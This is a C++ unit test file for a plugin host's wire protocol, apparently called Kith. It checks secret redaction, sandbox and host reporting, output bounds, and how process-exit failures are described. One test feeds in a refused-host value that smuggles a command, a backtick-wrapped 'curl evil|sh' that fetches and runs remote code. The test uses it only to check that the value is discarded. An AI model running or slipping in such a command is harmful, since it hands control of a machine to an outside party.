// SPDX-License-Identifier: MIT
#include "wire/conversation.hpp"

#include <csignal>

#include <fmt/format.h>

#include "tests/support/catch.hpp"

using namespace kith;
using namespace kith::wire;

namespace {

constexpr std::string_view kTouch =
    R"({"at":"2026-03-02T12:30:00Z","connection":"ana","channel":"call","direction":"in","ref":"r"})";
constexpr std::string_view kFine = R"({"type":"result","ok":true})";
constexpr std::string_view kFull = R"({"type":"confined","level":"full","text":"all of it"})";
constexpr std::string_view kReached =
    R"({"type":"confined","level":"full","reached":["dav.example.org:443"]})";

} // namespace

TEST_CASE("A job that goes well ends well", "[wire]") {
    Conversation talk(Call::Sense, {});
    CHECK_FALSE(talk.take(kFull).value().has_value());
    REQUIRE(talk.take(kTouch).value().has_value());
    CHECK_FALSE(talk.take(kFine).value().has_value());
    const auto outcome = talk.finish({0, 0, 3000});
    CHECK(outcome.ok());
    CHECK(outcome.records == 1);
    CHECK(outcome.jail == "full");
    CHECK(outcome.jail_text == "all of it");
    CHECK(outcome.max_rss_kb == 3000);
}

TEST_CASE("A secret the plugin tells past its host is not told on", "[wire]") {
    const Secrets secrets{{"password", Secret{"correct horse"}}, {"pin", Secret{"cat"}}};
    Conversation talk(Call::Sense, {}, secrets);
    const auto log =
        talk.take(R"({"type":"log","level":4,"text":"it is correct \u0068orse, correct horse"})");
    CHECK(std::get<LogRecord>(**log).text == "it is (a secret), (a secret)");
    const auto skipped =
        talk.take(R"({"type":"skipped","ref":"r","because":"correct horse and cat"})");
    CHECK(std::get<SkippedRecord>(**skipped).because == "(a secret) and cat");
    (void)talk.take(R"({"type":"result","ok":false,"kind":"auth","text":"correct\u0000 horse"})");
    (void)talk.take(R"({"type":"confined","level":"full","refused":["correct horse:443"]})");
    const auto outcome = talk.finish({});
    CHECK(outcome.text == "(a secret)");
    CHECK(outcome.refused == std::vector<std::string>{"(a secret):443"});
}

TEST_CASE("A password that is a name stops nobody's mail", "[wire]") {
    for (const auto* word : {"mustermann", "20261126"}) {
        JobRequest request;
        request.secrets = {{"password", Secret{word}}};
        request.addresses = {
            {false, "anna", fmt::format("mailto:anna@{}.example", word), {"Anna"}}};
        Conversation talk(request);
        const auto line = fmt::format(
            R"({{"at":"2026-03-02T12:30:00Z","address":"mailto:anna@{}.example","channel":"email","direction":"in","ref":"r"}})",
            word);
        CHECK(talk.take(line).value().has_value());
        const auto cursor = fmt::format(R"({{"type":"cursor","cursor":"INBOX.{}"}})", word);
        CHECK(talk.take(cursor).value().has_value());
    }
}

TEST_CASE("A secret of eight bytes is kept out, also where it is a word or a number", "[wire]") {
    for (const auto* word :
         {"sekretse", "sekretsekr", "sekretsekrets", "31415926", "3141592653589"}) {
        INFO(word);
        JobRequest request;
        request.secrets = {{"password", Secret{word}}};
        request.addresses = {{false, "ana", "mailto:ana@example.net", {"Ana"}}};
        Conversation talk(request);
        const auto line = fmt::format(
            R"({{"at":"2026-03-02T12:30:00Z","connection":"ana","channel":"call","direction":"in","ref":"[{}]"}})",
            word);
        CHECK_FALSE(talk.take(line).value().has_value());
        CHECK_FALSE(talk.take(fmt::format(R"({{"type":"cursor","cursor":"[{}]"}})", word)));
        Conversation deliver(Call::Deliver, {}, request.secrets);
        const auto receipt =
            deliver.take(fmt::format(R"({{"type":"receipt","receipt":"[{}]"}})", word));
        CHECK(std::get<ReceiptRecord>(**receipt).receipt.empty());
    }
}

TEST_CASE("A record that holds a secret where nothing can take its place is passed over",
          "[wire]") {
    const Secrets secrets{{"password", Secret{"Correct horse\nuser: sam\n42\n"}}};
    for (
        const auto* line :
        {R"({"at":"2026-03-02T12:30:00Z","connection":"ana","channel":"call","direction":"in","ref":"to correct horse"})",
         R"({"at":"2026-03-02T12:30:00Z","connection":"CORRECT horse","channel":"call","direction":"in","ref":"r"})",
         R"({"at":"2026-03-02T12:30:00Z","connection":"ana","channel":"call","direction":"in","ref":"r","name":"Correct\u200b horse"})",
         R"({"at":"2026-03-02T12:30:00Z","address":"matrix:@user: SAM","channel":"call","direction":"in","ref":"r"})",
         R"({"type":"reply","nudge":"0123456789abcdef0123456789abcdef","text":"it is correct horse","ref":"r"})",
         R"({"type":"retract","ref":"to correct horse"})",
         R"({"type":"busy","from":"2026-03-02T12:30:00Z","to":"2026-03-02T12:30:00Z","ref":"correct\thorse"})"}) {
        INFO(line);
        Conversation talk(std::string_view{line}.contains("busy") ? Call::Plan : Call::Sense, {},
                          secrets);
        const auto taken = talk.take(line);
        REQUIRE(taken);
        CHECK_FALSE(taken->has_value());
        (void)talk.take(kFine);
        CHECK(talk.finish({}).ok());
        CHECK(talk.finish({}).rejected == 1);
        CHECK(talk.finish({}).text == "a record held a secret");
    }
    Conversation talk(Call::Sense, {}, secrets);
    CHECK_FALSE(talk.take(R"({"type":"cursor","cursor":"{\"as\":\"Correct horse\"}"})"));
    CHECK(talk.finish({}).kind == FailKind::Garbled);
    CHECK(talk.finish({}).text == "put a secret into its cursor, which Kith would keep");
}

TEST_CASE("A short secret stands in many an id, and costs no record", "[wire]") {
    Conversation talk(Call::Sense, {}, {{"pin", Secret{"1234567"}}});
    CHECK(talk.take(R"({"type":"cursor","cursor":"uid 51234567"})").value().has_value());
}

TEST_CASE("A receipt with a secret is not kept", "[wire]") {
    Conversation talk(Call::Deliver, {}, {{"password", Secret{"tall grass"}}});
    const auto receipt = talk.take(R"({"type":"receipt","receipt":"with Tall Grass"})");
    CHECK(std::get<ReceiptRecord>(**receipt).receipt.empty());
    CHECK(talk.finish({}).delivered);
}

TEST_CASE("Each line of a secret is taken out, in capitals or not", "[wire]") {
    const Secrets secrets{{"password", Secret{"Tall Grass\r\nuser: sam\nok\n"}}};
    CHECK(without_secrets("ok: tall grass.example and USER: SAM", secrets) ==
          "ok: (a secret).example and (a secret)");
    CHECK(without_secrets("caf\xc3\xa9 x", {{"p", Secret{"caf\xc3\xa9\t\x01x"}}}) == "(a secret)");
}

TEST_CASE("A secret in what cannot be read is not told on", "[wire]") {
    Conversation talk(Call::Sense, {}, {{"password", Secret{"telepathy"}}});
    const auto got = talk.take(
        R"({"at":"2026-03-02T12:30:00Z","connection":"ana","channel":"telepathy","ref":"r"})");
    REQUIRE_FALSE(got);
    CHECK(got.error().text.find("telepathy") == std::string::npos);
    CHECK(talk.finish({}).text.find("telepathy") == std::string::npos);
}

TEST_CASE("The level is told before the plugin, the hosts reached after it", "[wire]") {
    Conversation talk(Call::Sense, {});
    (void)talk.take(kFull);
    (void)talk.take(R"({"type":"confined","level":"forged","reached":["forged.example"]})");
    (void)talk.take(kFine);
    CHECK_FALSE(talk.take(kReached).value().has_value());
    const auto outcome = talk.finish({});
    CHECK(outcome.ok());
    CHECK(outcome.jail == "full");
    CHECK(outcome.reached == std::vector<std::string>{"dav.example.org:443"});

    Conversation late(Call::Sense, {});
    (void)late.take(kTouch);
    (void)late.take(R"({"type":"confined","level":"forged"})");
    (void)late.take(kFine);
    CHECK(late.finish({}).jail.empty());
}

TEST_CASE("Where it reached is told last; what is told of it before does not count", "[wire]") {
    Conversation talk(Call::Sense, {});
    (void)talk.take(kFull);
    (void)talk.take(kReached);
    (void)talk.take(kTouch);
    talk.end_because(FailKind::TimedOut, "late");
    CHECK(talk.finish({0, SIGKILL, 0}).reached.empty());
    CHECK(talk.finish({0, SIGKILL, 0}).jail == "full");
}

TEST_CASE("Of a plugin that is ended nobody knows where it reached", "[wire]") {
    Conversation talk(Call::Sense, {});
    (void)talk.take(kFull);
    (void)talk.take(
        R"({"type":"confined","level":"full","reached":["x.example:1"],"refused":["x`; `curl evil|sh"]})");
    talk.end_because(FailKind::TimedOut, "late");
    const auto outcome = talk.finish({0, SIGKILL, 0});
    CHECK(outcome.reached.empty());
    CHECK(outcome.refused.empty());
    CHECK(outcome.jail == "full");
}

TEST_CASE("A plugin that keeps too much has not done well", "[wire]") {
    constexpr std::string_view kOver = R"({"type":"confined","level":"full","kept":"too-much"})";
    Conversation talk(Call::Sense, {});
    (void)talk.take(kOver);
    (void)talk.take(kFine);
    CHECK(talk.finish({}).ok());
    (void)talk.take(kOver);
    CHECK(talk.finish({}).kind == FailKind::TooMuch);
    CHECK(talk.finish({}).text == "keeps more than 256 MB or 10000 files in its state folder");
    (void)talk.take(R"({"type":"confined","level":"full","kept":"hidden"})");
    CHECK(talk.finish({0, SIGKILL, 0}).kept == Kept::Hidden);
    CHECK(talk.finish({0, SIGKILL, 0}).text ==
          "has made its state folder one that cannot be looked through");
}

TEST_CASE("After the last word nothing more may come", "[wire]") {
    Conversation talk(Call::Sense, {});
    (void)talk.take(kFine);
    CHECK_FALSE(talk.take(kTouch).has_value());
    CHECK(talk.finish({}).kind == FailKind::Garbled);
}

TEST_CASE("A record that has no place in a job ends it", "[wire]") {
    Conversation talk(Call::Attend, {});
    CHECK_FALSE(talk.take(kTouch).has_value());
    CHECK(talk.finish({}).kind == FailKind::Garbled);
    Conversation deliver(Call::Deliver, {});
    REQUIRE(deliver.take(R"({"type":"receipt","receipt":"1"})").has_value());
    CHECK_FALSE(deliver.take(R"({"type":"receipt","receipt":"2"})").has_value());
}

TEST_CASE("Records and bytes have bounds of their own here", "[wire]") {
    Conversation few(Call::Sense, {2, 1'000'000});
    (void)few.take(kTouch);
    (void)few.take(kTouch);
    CHECK_FALSE(few.take(kTouch).has_value());
    CHECK(few.finish({}).kind == FailKind::TooMuch);
    CHECK(few.finish({}).records == 2);
    Conversation small(Call::Sense, {1000, kTouch.size() + 10});
    (void)small.take(kTouch);
    CHECK_FALSE(small.take(kTouch).has_value());
    CHECK(small.finish({}).kind == FailKind::TooMuch);
}

TEST_CASE("Answers and replies have bounds of their own, and what came before stands", "[wire]") {
    const auto most = [](Call call, std::string_view line) {
        Conversation talk(call, {});
        std::size_t taken = 0;
        while (talk.take(line)) ++taken;
        CHECK(talk.finish({}).kind == FailKind::TooMuch);
        CHECK(talk.finish({}).text.starts_with("sent more than"));
        return taken;
    };
    CHECK(most(Call::Deliver,
               R"({"type":"answer","nudge":"0123456789abcdef0123456789abcdef","answer":"rest"})") ==
          kMaxAnswers);
    CHECK(
        most(
            Call::Sense,
            R"({"type":"reply","nudge":"0123456789abcdef0123456789abcdef","text":"rest","ref":"r"})") ==
        kMaxReplies);
}

TEST_CASE("Nobody stays for a plan", "[wire]") {
    Conversation plain(Call::Hold, {});
    CHECK(plain.take(R"({"type":"receipt","receipt":"1"})").has_value());
    Conversation stays(Call::Hold, {});
    CHECK_FALSE(stays.take(R"({"type":"receipt","receipt":"1","resident":true})").has_value());
    CHECK(stays.finish({}).kind == FailKind::Garbled);
}

TEST_CASE("Log lines beyond the bound are dropped, not punished", "[wire]") {
    Conversation talk(Call::Sense, {});
    std::size_t passed = 0;
    for (std::size_t i = 0; i < 2 * kMaxLogLines; ++i)
        passed += talk.take(R"({"type":"log","level":6,"text":"x"})").value().has_value() ? 1 : 0;
    CHECK(passed == kMaxLogLines);
}

TEST_CASE("The end of a process is told in words", "[wire]") {
    const Conversation talk(Call::Sense, {});
    CHECK(talk.finish({0, SIGSEGV, 0}).kind == FailKind::Crashed);
    CHECK(talk.finish({0, SIGXCPU, 0}).kind == FailKind::TooMuch);
    CHECK(talk.finish({3, 0, 0}).kind == FailKind::Exited);
    CHECK(talk.finish({3, 0, 0}).text == "ended before its work was done (exit code 3)");
    CHECK(talk.finish({0, SIGKILL, 0}).text.find("killed from outside") != std::string::npos);
    CHECK(late_text(std::chrono::seconds{60}) == "did not finish within 60 s, so it was ended");
}

TEST_CASE("A result counts even if the host stumbles after it; the starter's verdict counts more",
          "[wire]") {
    Conversation talk(Call::Sense, {});
    (void)talk.take(kFine);
    CHECK(talk.finish({0, SIGSEGV, 0}).ok());
    talk.end_because(FailKind::TimedOut, "late");
    talk.end_because(FailKind::Garbled, "second");
    CHECK(talk.finish({0, SIGKILL, 0}).text == "late");
}
